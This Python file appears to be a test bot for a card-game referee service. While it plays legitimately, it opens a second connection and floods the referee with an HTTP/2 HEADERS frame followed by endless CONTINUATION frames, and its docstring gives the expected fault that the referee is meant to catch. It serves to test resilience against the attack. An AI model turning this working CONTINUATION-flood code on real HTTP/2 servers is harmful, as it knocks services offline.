"""Plays well, and floods a second connection, on which it shows no token, with the headers of a call that never end.

Fault: FLOODED; the connections are cut, and the process is ended.
"""

import os
import socket
import threading

from aurum.bot import Bot, Card, GameInfo, Turn, run

HEADERS, CONTINUATION = 1, 9
BEGINNING = {":method": "POST", ":scheme": "http", ":path": "/aurum.v1.RefereeService/Play", ":authority": "x"}


def frame(kind: int, payload: bytes) -> bytes:
    """A frame of HTTP/2 on stream 1, without flags: so its header block goes on."""
    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + (1).to_bytes(4, "big") + payload


def field(name: str, value: str) -> bytes:
    """A header field as HPACK writes it literally."""
    return b"".join((b"\0", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()))


def connect(address: str) -> socket.socket:
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)))


def flood() -> None:
    with connect(os.environ["AURUM_ADDRESS"]) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0)))
        connection.sendall(frame(HEADERS, b"".join(field(*each) for each in BEGINNING.items())))
        while True:
            connection.sendall(frame(CONTINUATION, field("x", "y") * 250))


class Floods(Bot):
    begun = False

    def game_start(self, game: GameInfo) -> None:
        if not self.begun:
            threading.Thread(target=flood, daemon=True).start()
        self.begun = True

    def bid(self, turn: Turn) -> Card:
        return turn.hand[0]

    def play(self, turn: Turn) -> Card:
        return turn.cards[0]


run(Floods)
